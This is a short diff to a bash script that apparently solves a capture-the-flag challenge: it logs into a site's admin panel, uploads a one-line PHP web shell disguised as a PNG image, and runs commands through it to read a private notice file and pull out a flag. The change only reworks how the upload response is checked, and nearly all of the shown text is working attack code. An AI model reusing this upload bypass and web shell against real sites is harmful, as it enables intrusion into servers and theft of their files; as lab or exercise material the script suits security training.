@@ -21,7 +21,8 @@
   curl -sS -m 10 -o /dev/null -L -b "$jar" -c "$jar" --data-urlencode 'login=admin' --data-urlencode "password=$password" "$site/admin/"
   name=photo-$RANDOM$RANDOM.php
   printf '<?php system($_POST["c"]);' >"$shell"
-  curl -sS -m 10 -b "$jar" -F 'news=0' -F "file=@$shell;filename=$name;type=image/png" "$site/admin/" | grep -q "/uploads/$name" || stop "the upload was refused"
+  page=$(curl -sS -m 10 -b "$jar" -F 'news=0' -F "file=@$shell;filename=$name;type=image/png" "$site/admin/")
+  grep -q "/uploads/$name" <<<"$page" || stop "the upload was refused"
   run() { curl -sS -m 15 --data-urlencode "c=$1" "$site/uploads/$name"; }
   memo=$(run 'cat /srv/portal/private/notice.txt' | flag)
   [ -n "$memo" ] || stop "no flag in the memo"
